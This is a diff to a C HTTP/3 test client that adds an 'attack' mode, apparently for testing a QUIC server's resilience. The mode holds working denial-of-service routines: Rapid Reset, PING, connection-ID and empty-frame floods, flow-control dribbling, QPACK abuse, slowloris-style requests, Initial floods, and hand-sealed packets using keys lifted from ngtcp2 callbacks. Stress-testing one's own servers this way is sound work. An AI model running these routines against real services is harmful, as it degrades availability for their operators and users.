@@ -51,11 +51,15 @@
 #define MAX_FIELDS 256
 
 static const char *sni = "localhost", *cafile, *server_ip = "127.0.0.1";
+/* The client's windows and ID limit (attack mode changes them); with
+ * manual_window the windows move only when the attack grants. */
+static uint64_t stream_window = WINDOW, conn_window = WINDOW, cid_limit = 2;
+static bool manual_window;
 static unsigned server_port;
 static gnutls_certificate_credentials_t cred;
 static bool debug;
 
-__attribute__((format(printf, 1, 2))) static void die(const char *fmt, ...)
+__attribute__((format(printf, 1, 2), noreturn)) static void die(const char *fmt, ...)
 {
     va_list ap;
     va_start(ap, fmt);
@@ -129,6 +133,12 @@ struct conn {
     ngtcp2_crypto_conn_ref ref;
     ngtcp2_ccerr last_error;
     bool ready, closed, failed;
+    bool raw;         /* attack mode: no nghttp3, the HTTP/3 bytes written by hand */
+    bool takeover;    /* attack mode: ngtcp2 is done with; packets are made here */
+    uint64_t rx, rxn; /* bytes and frames received on request streams */
+    unsigned repeats; /* takeover: datagrams that came twice (a kept CONNECTION_CLOSE) */
+    uint8_t seen[8][48];
+    size_t seen_n;
     struct stream *streams;
     /* Requests waiting for a stream id (the server's MAX_STREAMS). */
     struct pending *queue, *queue_tail;
@@ -191,6 +201,10 @@ static int recv_stream_data(ngtcp2_conn *qc, uint32_t flags, int64_t id, uint64_
 {
     (void)qc, (void)offset, (void)sud;
     struct conn *c = ud;
+    if (ngtcp2_is_bidi_stream(id)) {
+        c->rx += len; /* a request stream's bytes and frames (attack mode says) */
+        c->rxn++;
+    }
     if (!c->h3)
         return 0;
     nghttp3_ssize n =
@@ -202,8 +216,10 @@ static int recv_stream_data(ngtcp2_conn *qc, uint32_t flags, int64_t id, uint64_
                                            nghttp3_err_infer_quic_app_error_code((int)n), NULL, 0);
         return NGTCP2_ERR_CALLBACK_FAILURE;
     }
-    ngtcp2_conn_extend_max_stream_offset(qc, id, (uint64_t)n);
-    ngtcp2_conn_extend_max_offset(qc, (uint64_t)n);
+    if (!manual_window) {
+        ngtcp2_conn_extend_max_stream_offset(qc, id, (uint64_t)n);
+        ngtcp2_conn_extend_max_offset(qc, (uint64_t)n);
+    }
     return 0;
 }
 
@@ -273,7 +289,7 @@ static int handshake_completed(ngtcp2_conn *qc, void *ud)
 {
     (void)qc;
     struct conn *c = ud;
-    if (h3_setup(c) != 0)
+    if (!c->raw && h3_setup(c) != 0)
         return NGTCP2_ERR_CALLBACK_FAILURE;
     c->ready = true;
     if (mode->ready)
@@ -286,6 +302,8 @@ static int attack_encrypt(uint8_t *dest, const ngtcp2_crypto_aead *aead,
                           const ngtcp2_crypto_aead_ctx *aead_ctx, const uint8_t *plaintext,
                           size_t plaintextlen, const uint8_t *nonce, size_t noncelen,
                           const uint8_t *aad, size_t aadlen);
+static int attack_hp_mask(uint8_t *dest, const ngtcp2_crypto_cipher *hp,
+                          const ngtcp2_crypto_cipher_ctx *hp_ctx, const uint8_t *sample);
 
 static ngtcp2_callbacks client_callbacks(void)
 {
@@ -295,7 +313,7 @@ static ngtcp2_callbacks client_callbacks(void)
         .handshake_completed = handshake_completed,
         .encrypt = attack_encrypt,
         .decrypt = ngtcp2_crypto_decrypt_cb,
-        .hp_mask = ngtcp2_crypto_hp_mask_cb,
+        .hp_mask = attack_hp_mask,
         .recv_stream_data = recv_stream_data,
         .acked_stream_data_offset = acked_stream_data_offset,
         .stream_close = stream_close_cb,
@@ -339,8 +357,10 @@ static int h_recv_data(nghttp3_conn *h3, int64_t id, const uint8_t *data, size_t
         c->bytes += n; /* load mode counts, keeps nothing */
     else if (s)
         bytes_add(&s->body, data, n);
-    ngtcp2_conn_extend_max_stream_offset(c->qc, id, n);
-    ngtcp2_conn_extend_max_offset(c->qc, n);
+    if (!manual_window) {
+        ngtcp2_conn_extend_max_stream_offset(c->qc, id, n);
+        ngtcp2_conn_extend_max_offset(c->qc, n);
+    }
     return 0;
 }
 
@@ -348,8 +368,10 @@ static int h_deferred_consume(nghttp3_conn *h3, int64_t id, size_t n, void *ud, 
 {
     (void)h3, (void)sud;
     struct conn *c = ud;
-    ngtcp2_conn_extend_max_stream_offset(c->qc, id, n);
-    ngtcp2_conn_extend_max_offset(c->qc, n);
+    if (!manual_window) {
+        ngtcp2_conn_extend_max_stream_offset(c->qc, id, n);
+        ngtcp2_conn_extend_max_offset(c->qc, n);
+    }
     return 0;
 }
 
@@ -598,9 +620,15 @@ static void conn_write(struct conn *c)
     ngtcp2_conn_update_pkt_tx_time(c->qc, now_ns());
 }
 
+static void takeover_read(struct conn *c);
+
 static void conn_read(struct conn *c)
 {
     uint8_t buf[65536];
+    if (c->takeover) {
+        takeover_read(c);
+        return;
+    }
     for (int i = 0; i < 64 && !c->closed; i++) {
         ssize_t n = recv(c->fd, buf, sizeof buf, 0);
         if (n < 0) {
@@ -719,9 +747,10 @@ static struct conn *conn_new(void)
     s.cc_algo = NGTCP2_CC_ALGO_CUBIC;
     ngtcp2_transport_params p;
     ngtcp2_transport_params_default(&p);
-    p.initial_max_stream_data_bidi_local = WINDOW;
+    p.initial_max_stream_data_bidi_local = stream_window;
     p.initial_max_stream_data_uni = WINDOW;
-    p.initial_max_data = WINDOW;
+    p.initial_max_data = conn_window;
+    p.active_connection_id_limit = cid_limit;
     p.initial_max_streams_uni = 3;
     p.max_idle_timeout = 60 * NGTCP2_SECONDS;
     ngtcp2_callbacks cb = client_callbacks();
@@ -779,7 +808,7 @@ static int next_timeout(struct conn **conns, size_t n, int cap)
 {
     uint64_t now = now_ns(), at = UINT64_MAX;
     for (size_t i = 0; i < n; i++)
-        if (conns[i] && !conns[i]->closed) {
+        if (conns[i] && !conns[i]->closed && !conns[i]->takeover) {
             uint64_t e = ngtcp2_conn_get_expiry(conns[i]->qc);
             if (e < at)
                 at = e;
@@ -794,7 +823,8 @@ static void expire_all(struct conn **conns, size_t n)
 {
     uint64_t now = now_ns();
     for (size_t i = 0; i < n; i++)
-        if (conns[i] && !conns[i]->closed && ngtcp2_conn_get_expiry(conns[i]->qc) <= now)
+        if (conns[i] && !conns[i]->closed && !conns[i]->takeover &&
+            ngtcp2_conn_get_expiry(conns[i]->qc) <= now)
             conn_expire(conns[i]);
 }
 
@@ -1074,16 +1104,479 @@ static int run_load(unsigned nconns, double seconds)
     return load_errors ? 1 : 0;
 }
 
-/* ---- the packets ngtcp2 seals
- * --------------------------------------------------------------------- */
+/* ---- attacks ------------------------------------------------------------------------------------
+ */
+
+/* What ngtcp2 used for its last 1-RTT packet, kept so that attack mode can
+ * seal packets of its own once it has taken the connection over: the AEAD
+ * and its context, the IV (the nonce less the packet number), the header
+ * protection, the header up to the packet number (first byte, DCID). */
+static struct {
+    /* copies: ngtcp2 passes them from a record of the packet being made */
+    ngtcp2_crypto_aead aead;
+    ngtcp2_crypto_aead_ctx aead_ctx;
+    ngtcp2_crypto_cipher hp;
+    ngtcp2_crypto_cipher_ctx hp_ctx;
+    uint8_t iv[32], hdr[32];
+    size_t ivlen, hdrlen;
+    uint64_t pn;
+    bool short_pending, have;
+} keys;
 
 static int attack_encrypt(uint8_t *dest, const ngtcp2_crypto_aead *aead,
                           const ngtcp2_crypto_aead_ctx *aead_ctx, const uint8_t *plaintext,
                           size_t plaintextlen, const uint8_t *nonce, size_t noncelen,
                           const uint8_t *aad, size_t aadlen)
 {
+    if (aadlen > 0 && !(aad[0] & 0x80) && noncelen <= sizeof keys.iv && aadlen <= sizeof keys.hdr) {
+        size_t pnlen = (size_t)(aad[0] & 3) + 1;
+        uint64_t pn = 0;
+        for (size_t i = aadlen - pnlen; i < aadlen; i++)
+            pn = pn << 8 | aad[i];
+        keys.aead = *aead;
+        keys.aead_ctx = *aead_ctx;
+        keys.ivlen = noncelen;
+        memcpy(keys.iv, nonce, noncelen);
+        for (size_t i = 0; i < 8; i++)
+            keys.iv[noncelen - 1 - i] ^= (uint8_t)(pn >> (8 * i));
+        keys.hdrlen = aadlen - pnlen;
+        memcpy(keys.hdr, aad, keys.hdrlen);
+        if (pn > keys.pn)
+            keys.pn = pn;
+        keys.short_pending = true;
+    }
     return ngtcp2_crypto_encrypt_cb(dest, aead, aead_ctx, plaintext, plaintextlen, nonce, noncelen,
                                     aad, aadlen);
+}
+
+static int attack_hp_mask(uint8_t *dest, const ngtcp2_crypto_cipher *hp,
+                          const ngtcp2_crypto_cipher_ctx *hp_ctx, const uint8_t *sample)
+{
+    if (keys.short_pending) {
+        keys.hp = *hp;
+        keys.hp_ctx = *hp_ctx;
+        keys.short_pending = false;
+        keys.have = true;
+    }
+    return ngtcp2_crypto_hp_mask_cb(dest, hp, hp_ctx, sample);
+}
+
+/* Seals frames as a 1-RTT packet of the next packet number and sends it. */
+static void seal_send(struct conn *c, const uint8_t *frames, size_t n)
+{
+    uint8_t pkt[MAX_PKT + 64], nonce[32], mask[NGTCP2_HP_SAMPLELEN];
+    if (!keys.have || keys.hdrlen + 4 + n + keys.aead.max_overhead > sizeof pkt)
+        die("attack: no 1-RTT keys yet, or frames too long");
+    uint64_t pn = ++keys.pn;
+    memcpy(pkt, keys.hdr, keys.hdrlen);
+    pkt[0] = (uint8_t)((pkt[0] & ~3u) | 3u); /* a 4-byte packet number */
+    for (int i = 0; i < 4; i++)
+        pkt[keys.hdrlen + (size_t)i] = (uint8_t)(pn >> (8 * (3 - i)));
+    size_t hl = keys.hdrlen + 4;
+    memcpy(nonce, keys.iv, keys.ivlen);
+    for (size_t i = 0; i < 8; i++)
+        nonce[keys.ivlen - 1 - i] ^= (uint8_t)(pn >> (8 * i));
+    if (ngtcp2_crypto_encrypt(pkt + hl, &keys.aead, &keys.aead_ctx, frames, n, nonce, keys.ivlen,
+                              pkt, hl) != 0 ||
+        ngtcp2_crypto_hp_mask(mask, &keys.hp, &keys.hp_ctx, pkt + hl) != 0)
+        die("attack: sealing failed");
+    pkt[0] ^= mask[0] & 0x1f;
+    for (size_t i = 0; i < 4; i++)
+        pkt[keys.hdrlen + i] ^= mask[1 + i];
+    conn_send(c, pkt, hl + n + keys.aead.max_overhead);
+}
+
+/* After the takeover ngtcp2 reads nothing more: a datagram that comes a
+ * second time is the server's kept CONNECTION_CLOSE (its ACKs all differ). */
+static void takeover_read(struct conn *c)
+{
+    uint8_t buf[2048];
+    ssize_t n;
+    while ((n = recv(c->fd, buf, sizeof buf, 0)) > 0) {
+        size_t k = (size_t)n < sizeof c->seen[0] ? (size_t)n : sizeof c->seen[0];
+        bool again = false;
+        for (size_t i = 0; i < c->seen_n && i < 8; i++)
+            again = again || memcmp(c->seen[i], buf, k) == 0;
+        if (again)
+            c->repeats++;
+        else
+            memcpy(c->seen[c->seen_n++ % 8], buf, k);
+    }
+}
+
+static size_t put_varint(uint8_t *p, uint64_t v)
+{
+    if (v < 64) {
+        p[0] = (uint8_t)v;
+        return 1;
+    }
+    if (v < 16384) {
+        p[0] = (uint8_t)(0x40 | v >> 8);
+        p[1] = (uint8_t)v;
+        return 2;
+    }
+    for (int i = 0; i < 4; i++)
+        p[i] = (uint8_t)(v >> (8 * (3 - i)));
+    p[0] |= 0x80;
+    return 4;
+}
+
+/* Runs the loop for up to ms milliseconds, or until done(c) says so. */
+static void pump(struct conn *c, int ms, bool (*done)(struct conn *c))
+{
+    uint64_t end = now_ns() + (uint64_t)ms * 1000000u;
+    while (!(done && done(c)) && now_ns() < end) {
+        struct epoll_event ev[4];
+        int left = (int)((end - now_ns()) / 1000000u);
+        int n = epoll_wait(epfd, ev, 4, next_timeout(&c, 1, left < 1 ? 1 : left));
+        for (int i = 0; i < n; i++)
+            conn_read(ev[i].data.ptr);
+        expire_all(&c, 1);
+    }
+}
+
+static bool is_ready(struct conn *c)
+{
+    return c->ready || c->closed;
+}
+
+static bool is_closed(struct conn *c)
+{
+    return c->closed;
+}
+
+/* The attack's outcome, for the test: the connection's end as the client
+ * saw it (none, or the kind and code of the server's CONNECTION_CLOSE, or
+ * "repeated" for a takeover), what was sent, how long it took. */
+static const char *atk_end = "none";
+static uint64_t atk_code;
+static unsigned atk_sent;
+static uint64_t atk_bytes;
+
+static void atk_conn_end(struct conn *c, const char *kind, uint64_t code, const uint8_t *r,
+                         size_t rl)
+{
+    (void)c, (void)r, (void)rl;
+    atk_end = kind;
+    atk_code = code;
+}
+
+static void atk_closed(struct stream *s, uint64_t code)
+{
+    (void)code;
+    atk_bytes += s->body.n;
+}
+
+static void atk_field(struct stream *s, const uint8_t *n, size_t nl, const uint8_t *v, size_t vl)
+{
+    (void)s, (void)n, (void)nl, (void)v, (void)vl;
+}
+
+static const struct mode attack_mode = {NULL, NULL, atk_field, atk_closed, atk_conn_end};
+
+static struct pending *get_request(const char *path)
+{
+    struct pending *p = pending_new("a");
+    pending_field(p, ":method", 7, "GET", 3);
+    pending_field(p, ":scheme", 7, "https", 5);
+    pending_field(p, ":authority", 10, sni, strlen(sni));
+    pending_field(p, ":path", 5, path, strlen(path));
+    return p;
+}
+
+/* Writes bytes on a stream of a raw connection (no nghttp3), all of them. */
+static void raw_write(struct conn *c, int64_t sid, const uint8_t *p, size_t n, bool fin)
+{
+    uint8_t buf[MAX_PKT];
+    while (!c->closed) {
+        ngtcp2_ssize ndata = 0;
+        ngtcp2_vec v = {(uint8_t *)(uintptr_t)p, n};
+        ngtcp2_ssize w =
+            ngtcp2_conn_writev_stream(c->qc, NULL, NULL, buf, sizeof buf, &ndata,
+                                      fin ? NGTCP2_WRITE_STREAM_FLAG_FIN : 0, sid, &v, 1, now_ns());
+        if (w < 0)
+            die("attack: raw write: %s", ngtcp2_strerror((int)w));
+        if (w > 0)
+            conn_send(c, buf, (size_t)w);
+        if (ndata > 0) {
+            p += ndata;
+            n -= (size_t)ndata;
+        }
+        if (n == 0 && (ndata >= 0 || w == 0))
+            break;
+        if (w == 0)
+            pump(c, 5, NULL);
+    }
+}
+
+/* The HTTP/3 streams every connection opens, by hand: control (SETTINGS,
+ * empty), QPACK encoder and decoder. */
+static int64_t raw_setup(struct conn *c, int64_t *enc)
+{
+    static const uint8_t ctrl[] = {0x00, 0x04, 0x00}, encs[] = {0x02}, decs[] = {0x03};
+    int64_t a, b, d;
+    if (ngtcp2_conn_open_uni_stream(c->qc, &a, NULL) != 0 ||
+        ngtcp2_conn_open_uni_stream(c->qc, &b, NULL) != 0 ||
+        ngtcp2_conn_open_uni_stream(c->qc, &d, NULL) != 0)
+        die("attack: uni streams");
+    raw_write(c, a, ctrl, sizeof ctrl, false);
+    raw_write(c, b, encs, sizeof encs, false);
+    raw_write(c, d, decs, sizeof decs, false);
+    *enc = b;
+    return a;
+}
+
+/* Takes the connection over once ngtcp2 has sealed 1-RTT packets (the
+ * handshake done, the server's HANDSHAKE_DONE acknowledged). */
+static void take_over(struct conn *c, int wait_ms)
+{
+    pump(c, wait_ms, NULL);
+    if (!keys.have)
+        die("attack: no 1-RTT packet was sealed");
+    c->takeover = true;
+}
+
+static bool flood_over(struct conn *c)
+{
+    return c->repeats > 0;
+}
+
+/* Sends count packets of frames (takeover), pausing every burst; stops at
+ * the server's close. */
+static void flood(struct conn *c, const uint8_t *frames, size_t n, unsigned count, unsigned burst,
+                  int pause_ms)
+{
+    take_over(c, 100);
+    for (atk_sent = 0; atk_sent < count && !c->repeats; atk_sent++) {
+        seal_send(c, frames, n);
+        if ((atk_sent + 1) % burst == 0)
+            pump(c, pause_ms, flood_over);
+    }
+    pump(c, 1000, flood_over);
+    if (c->repeats)
+        atk_end = "repeated";
+}
+
+static bool has_body(struct conn *c)
+{
+    return c->closed || (c->streams && c->streams->body.n > 0);
+}
+
+static bool stream_done(struct conn *c)
+{
+    return c->closed || (c->streams == NULL && c->queue == NULL);
+}
+
+static int run_attack(const char *name, unsigned count, const char *path, unsigned grant)
+{
+    mode = &attack_mode;
+    if (strcmp(name, "dribble") == 0 || strcmp(name, "window") == 0) {
+        manual_window = true;
+        stream_window = grant ? grant : 1;
+    } else if (strcmp(name, "dribble_conn") == 0) {
+        manual_window = true;
+        conn_window = 1;
+    } else if (strcmp(name, "retire") == 0) {
+        cid_limit = 8;
+    }
+    tls_init();
+    struct conn *c = conn_new();
+    c->raw = strncmp(name, "qpack", 5) == 0 || strcmp(name, "slow_request") == 0;
+    uint64_t start = now_ns();
+    pump(c, 5000, is_ready);
+    if (!c->ready)
+        die("attack: no handshake (%s)", atk_end);
+    uint8_t f[MAX_PKT];
+    size_t n = 0;
+    if (strcmp(name, "rapid_reset") == 0) {
+        /* HEADERS then RESET_STREAM, again and again (HTTP/3's Rapid Reset) */
+        for (atk_sent = 0; atk_sent < count && !c->closed;) {
+            int64_t id;
+            if (ngtcp2_conn_open_bidi_stream(c->qc, &id, NULL) != 0) {
+                pump(c, 5, NULL); /* MAX_STREAMS comes as the server closes them */
+                continue;
+            }
+            struct pending *p = get_request(path);
+            nghttp3_nv nv[8];
+            for (size_t i = 0; i < p->nnv; i++) {
+                nv[i] = p->nv[i];
+                nv[i].name = p->store.p + (uintptr_t)p->nv[i].name;
+                nv[i].value = p->store.p + (uintptr_t)p->nv[i].value;
+            }
+            if (nghttp3_conn_submit_request(c->h3, id, nv, p->nnv, NULL, NULL) != 0)
+                die("submit");
+            free(p->store.p);
+            free(p);
+            conn_write(c);
+            ngtcp2_conn_shutdown_stream(c->qc, 0, id, NGHTTP3_H3_REQUEST_CANCELLED);
+            conn_write(c);
+            atk_sent++;
+            if (atk_sent % 16 == 0)
+                pump(c, 1, NULL);
+        }
+        pump(c, 2000, is_closed);
+    } else if (strcmp(name, "ping") == 0) {
+        f[n++] = 0x01; /* PING, then PADDING */
+        n = 20;
+        memset(f + 1, 0, n - 1);
+        flood(c, f, n, count, 32, 1);
+    } else if (strcmp(name, "ncid") == 0) {
+        /* NEW_CONNECTION_ID that retires every earlier ID (the server
+         * switches to it and retires ours), then the same frame over and
+         * over: a duplicate changes nothing */
+        f[n++] = 0x18;
+        n += put_varint(f + n, 100);
+        n += put_varint(f + n, 100);
+        f[n++] = 8;
+        rand_cb(f + n, 8 + 16, NULL);
+        n += 8 + 16;
+        flood(c, f, n, count, 32, 1);
+    } else if (strcmp(name, "empty_stream") == 0) {
+        /* request stream 0 (a whole request), then STREAM frames of no bytes */
+        request(c, get_request(path));
+        pump(c, 2000, stream_done);
+        for (int i = 0; i < 100; i++) {
+            f[n++] = 0x0a; /* STREAM, LEN, no OFF, no FIN */
+            n += put_varint(f + n, 0);
+            n += put_varint(f + n, 0);
+        }
+        flood(c, f, n, count, 32, 1);
+    } else if (strcmp(name, "retire") == 0) {
+        /* RETIRE_CONNECTION_ID of each ID the server issued, in turn: it
+         * makes a new one each time (random bytes, a reset token, the
+         * table); a pause lets it issue the next before it is retired */
+        take_over(c, 100);
+        for (atk_sent = 0; atk_sent < count && !c->repeats; atk_sent++) {
+            n = 0;
+            f[n++] = 0x19;
+            n += put_varint(f + n, atk_sent + 1);
+            seal_send(c, f, n);
+            pump(c, 2, flood_over);
+        }
+        pump(c, 1000, flood_over);
+        if (c->repeats)
+            atk_end = "repeated";
+    } else if (strcmp(name, "dribble") == 0 || strcmp(name, "dribble_conn") == 0 ||
+               strcmp(name, "window") == 0) {
+        /* a window granted grant bytes at a time (1: a dribble) */
+        request(c, get_request(path));
+        uint64_t step = grant ? grant : 1;
+        for (atk_sent = 0; atk_sent < count && !stream_done(c); atk_sent++) {
+            pump(c, 1, NULL);
+            if (strcmp(name, "dribble_conn") == 0) {
+                ngtcp2_conn_extend_max_offset(c->qc, step);
+            } else if (c->streams) {
+                ngtcp2_conn_extend_max_stream_offset(c->qc, c->streams->id, step);
+                ngtcp2_conn_extend_max_offset(c->qc, step);
+            }
+            conn_write(c);
+        }
+        pump(c, 3000, stream_done);
+    } else if (strcmp(name, "qpack_capacity") == 0) {
+        /* Set Dynamic Table Capacity past what our SETTINGS allow (4096) */
+        int64_t enc;
+        raw_setup(c, &enc);
+        static const uint8_t cap[] = {0x3f, 0xe2, 0x1f}; /* 4097 */
+        raw_write(c, enc, cap, sizeof cap, false);
+        atk_sent = 1;
+        pump(c, 3000, is_closed);
+    } else if (strcmp(name, "qpack_blocked") == 0) {
+        /* requests waiting on a dynamic table entry that never comes */
+        int64_t enc;
+        raw_setup(c, &enc);
+        static const uint8_t headers[] = {0x01, 0x03, 0x02, 0x00, 0x80};
+        for (atk_sent = 0; atk_sent < count && !c->closed; atk_sent++) {
+            int64_t id;
+            if (ngtcp2_conn_open_bidi_stream(c->qc, &id, NULL) != 0)
+                break;
+            raw_write(c, id, headers, sizeof headers, false);
+            pump(c, 20, is_closed);
+        }
+        pump(c, 3000, is_closed);
+    } else if (strcmp(name, "slow_request") == 0) {
+        /* a HEADERS frame that never ends, a byte a second */
+        int64_t enc, id;
+        raw_setup(c, &enc);
+        if (ngtcp2_conn_open_bidi_stream(c->qc, &id, NULL) != 0)
+            die("attack: a stream");
+        /* HEADERS of 100 bytes: the prefix, :path (static 1) with a value
+         * of 80 bytes, which come one at a time */
+        static const uint8_t start_of[] = {0x01, 0x40, 0x64, 0x00, 0x00, 0x51, 0x50};
+        raw_write(c, id, start_of, sizeof start_of, false);
+        static const uint8_t lit[] = {'a'};
+        for (atk_sent = 0; atk_sent < count && !c->closed; atk_sent++) {
+            pump(c, 1000, is_closed);
+            raw_write(c, id, lit, 1, false);
+        }
+        pump(c, 1000, is_closed);
+    } else if (strcmp(name, "idle") == 0 || strcmp(name, "ping_idle") == 0) {
+        /* one answer, then nothing (or PINGs every 200 ms) */
+        request(c, get_request(path));
+        pump(c, 2000, stream_done);
+        if (strcmp(name, "ping_idle") == 0)
+            ngtcp2_conn_set_keep_alive_timeout(c->qc, 200 * NGTCP2_MILLISECONDS);
+        pump(c, (int)count * 1000, is_closed);
+    } else if (strcmp(name, "noack") == 0) {
+        /* a download, then PINGs every 100 ms and not one acknowledgement */
+        request(c, get_request(path));
+        pump(c, 2000, has_body);
+        f[0] = 0x01;
+        memset(f + 1, 0, 19);
+        take_over(c, 0);
+        for (atk_sent = 0; atk_sent < count * 10 && !c->repeats; atk_sent++) {
+            seal_send(c, f, 20);
+            pump(c, 100, flood_over);
+        }
+        if (c->repeats)
+            atk_end = "repeated";
+    } else {
+        die("unknown attack %s", name);
+    }
+    if (!c->closed && !c->takeover)
+        conn_close(c, NGHTTP3_H3_NO_ERROR);
+    printf("attack=%s sent=%u end=%s code=%llu bytes=%llu rx=%llu rxn=%llu seconds=%.3f\n", name,
+           atk_sent, atk_end, (unsigned long long)atk_code, (unsigned long long)atk_bytes,
+           (unsigned long long)c->rx, (unsigned long long)c->rxn, (double)(now_ns() - start) / 1e9);
+    return 0;
+}
+
+/* Initials from many addresses (each its own socket: a port of its own),
+ * none of which ever finishes its handshake: how many were answered with
+ * a Retry (no state kept), how many with an Initial of the server's (a
+ * handshake it keeps state for until its timeout). */
+static int run_initials(unsigned count)
+{
+    mode = &attack_mode;
+    tls_init();
+    struct conn **cs = xmalloc(count * sizeof *cs);
+    for (unsigned i = 0; i < count; i++)
+        cs[i] = conn_new(); /* writes its first flight, then is never driven */
+    unsigned retry = 0, initial = 0, other = 0;
+    uint64_t end = now_ns() + 1000000000u;
+    while (now_ns() < end) {
+        struct epoll_event ev[64];
+        int n = epoll_wait(epfd, ev, 64, 50);
+        for (int i = 0; i < n; i++) {
+            struct conn *c = ev[i].data.ptr;
+            uint8_t buf[2048];
+            ssize_t r;
+            while ((r = recv(c->fd, buf, sizeof buf, 0)) > 0) {
+                if (c->seen_n++)
+                    continue; /* each connection's first answer says which */
+                if ((buf[0] & 0xb0) == 0xb0)
+                    retry++;
+                else if ((buf[0] & 0xb0) == 0x80)
+                    initial++;
+                else
+                    other++;
+            }
+        }
+    }
+    printf("attack=initials sent=%u retry=%u initial=%u other=%u\n", count, retry, initial, other);
+    for (unsigned i = 0; i < count; i++)
+        conn_free(cs[i]);
+    free(cs);
+    return 0;
 }
 
 /* ---- main
@@ -1092,7 +1585,8 @@ static int attack_encrypt(uint8_t *dest, const ngtcp2_crypto_aead *aead,
 static void usage(void)
 {
     fputs("usage: h3client stdio PORT [--sni NAME] [--ca FILE] [--addr IP]\n"
-          "       h3client load PORT -c CONNS -m STREAMS (-n REQUESTS | -d SECONDS) PATH...\n",
+          "       h3client load PORT -c CONNS -m STREAMS (-n REQUESTS | -d SECONDS) PATH...\n"
+          "       h3client attack NAME PORT [-n COUNT] [--path PATH] [--grant BYTES]\n",
           stderr);
     exit(2);
 }
@@ -1101,8 +1595,16 @@ int main(int argc, char **argv)
 {
     if (argc < 3)
         usage();
-    const char *cmd = argv[1];
+    const char *cmd = argv[1], *attack = NULL, *path = "/big.bin";
+    if (strcmp(cmd, "attack") == 0) {
+        attack = argv[2];
+        argv++;
+        argc--;
+        if (argc < 3)
+            usage();
+    }
     server_port = (unsigned)strtoul(argv[2], NULL, 10);
+    unsigned grant = 0;
     debug = getenv("H3CLIENT_DEBUG") != NULL;
     unsigned nconns = 1;
     double seconds = 0;
@@ -1127,6 +1629,10 @@ int main(int argc, char **argv)
             load_total = strtoull(v, NULL, 10);
         else if (strcmp(o, "-d") == 0)
             seconds = strtod(v, NULL);
+        else if (strcmp(o, "--path") == 0)
+            path = v;
+        else if (strcmp(o, "--grant") == 0)
+            grant = (unsigned)strtoul(v, NULL, 10);
         else
             usage();
     }
@@ -1135,6 +1641,10 @@ int main(int argc, char **argv)
         die("epoll_create1");
     if (strcmp(cmd, "stdio") == 0)
         return run_stdio();
+    if (attack && strcmp(attack, "initials") == 0)
+        return run_initials(load_total ? (unsigned)load_total : 100);
+    if (attack)
+        return run_attack(attack, load_total ? (unsigned)load_total : 1000, path, grant);
     if (strcmp(cmd, "load") == 0) {
         load_paths = argv + i;
         load_npaths = (unsigned)(argc - i);
